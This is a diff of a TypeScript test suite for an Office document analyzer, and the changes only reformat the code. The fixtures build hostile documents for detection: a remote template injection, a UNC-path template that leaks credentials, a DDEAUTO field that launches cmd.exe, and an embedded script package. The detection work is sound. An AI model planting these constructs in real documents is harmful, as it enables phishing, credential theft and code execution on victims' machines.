@@ -26,30 +26,45 @@ describe('Office Open XML packages', () => {
   });
 
   test('a remote attached template over HTTP is template injection (T1221)', async () => {
-    const docx = await buildDocm(undefined, [{ name: 'word/_rels/settings.xml.rels', data: rels(`<Relationship Id="rId1" Type="${TEMPLATE}" Target="http://198.51.100.7/tpl.dotm" TargetMode="External"/>`) }]);
+    const docx = await buildDocm(undefined, [
+      {
+        name: 'word/_rels/settings.xml.rels',
+        data: rels(`<Relationship Id="rId1" Type="${TEMPLATE}" Target="http://198.51.100.7/tpl.dotm" TargetMode="External"/>`),
+      },
+    ]);
     const { finding, facts } = await analyzeOoxml(docx);
-    expect(facts.externalRelationships).toEqual([{ part: 'word/_rels/settings.xml.rels', type: 'attachedTemplate', target: 'http://198.51.100.7/tpl.dotm' }]);
+    expect(facts.externalRelationships).toEqual([
+      { part: 'word/_rels/settings.xml.rels', type: 'attachedTemplate', target: 'http://198.51.100.7/tpl.dotm' },
+    ]);
     expect(finding.verdict).toBe('suspicious');
     expect(finding.score).toBe(75);
     expect(finding.attack).toEqual(['T1221']);
   });
 
   test('a template on a UNC path leaks credentials (T1187); external hyperlinks are not flagged', async () => {
-    const docx = await buildDocm(undefined, [{
-      name: 'word/_rels/settings.xml.rels',
-      data: rels(
-        `<Relationship Id="rId1" Type="${TEMPLATE}" Target="\\\\203.0.113.8\\share\\t.dotx" TargetMode="External"/>`,
-        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/>',
-      ),
-    }]);
+    const docx = await buildDocm(undefined, [
+      {
+        name: 'word/_rels/settings.xml.rels',
+        data: rels(
+          `<Relationship Id="rId1" Type="${TEMPLATE}" Target="\\\\203.0.113.8\\share\\t.dotx" TargetMode="External"/>`,
+          '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/>',
+        ),
+      },
+    ]);
     const { finding, facts } = await analyzeOoxml(docx);
     expect(facts.externalRelationships.map((r) => r.type)).toEqual(['attachedTemplate']);
     expect(finding.attack).toEqual(['T1187', 'T1221']);
   });
 
   test('a DDEAUTO field split over runs that starts cmd.exe is malicious (T1559.002)', async () => {
-    const body = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\</w:instrText></w:r><w:r><w:instrText>cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
-    const docx = await buildDocm(undefined, [{ name: 'word/document.xml', data: `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>` }]);
+    const body =
+      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\</w:instrText></w:r><w:r><w:instrText>cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
+    const docx = await buildDocm(undefined, [
+      {
+        name: 'word/document.xml',
+        data: `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
+      },
+    ]);
     const { finding, facts } = await analyzeOoxml(docx);
     expect(facts.ddeFields.join(' ')).toMatch(/DDEAUTO c:\\\\windows\\\\system32\\\\cmd\.exe/);
     expect(finding.verdict).toBe('malicious');
@@ -58,7 +73,11 @@ describe('Office Open XML packages', () => {
 
   test('an embedded OLE package carrying a script is reported through the OLE analyzer', async () => {
     const label = Buffer.from('readme.js\0', 'latin1');
-    const u32 = (n: number): Buffer => { const b = Buffer.alloc(4); b.writeUInt32LE(n); return b; };
+    const u32 = (n: number): Buffer => {
+      const b = Buffer.alloc(4);
+      b.writeUInt32LE(n);
+      return b;
+    };
     const native = Buffer.concat([u32(0), Buffer.from([2, 0]), label, label, u32(0), u32(0), u32(4), Buffer.from('eval')]);
     const docx = await buildDocm(undefined, [{ name: 'word/embeddings/oleObject1.bin', data: buildCfb({ '\u0001Ole10Native': native }) }]);
     const { finding, facts } = await analyzeOoxml(docx);
@@ -68,7 +87,10 @@ describe('Office Open XML packages', () => {
   });
 
   test('real phishing .docx attachments (corpus) without macros or remote content are benign', async () => {
-    for (const [sample, name] of [['1155', 'AMGV2UG-K6EYVM.docx'], ['5599', 'lnvoice-Number002346234.docx']]) {
+    for (const [sample, name] of [
+      ['1155', 'AMGV2UG-K6EYVM.docx'],
+      ['5599', 'lnvoice-Number002346234.docx'],
+    ]) {
       const { finding, facts } = await analyzeOoxml(await corpusAttachment(sample, name), name);
       expect(facts.application).toBe('word');
       expect(facts.macroEnabled).toBe(false);
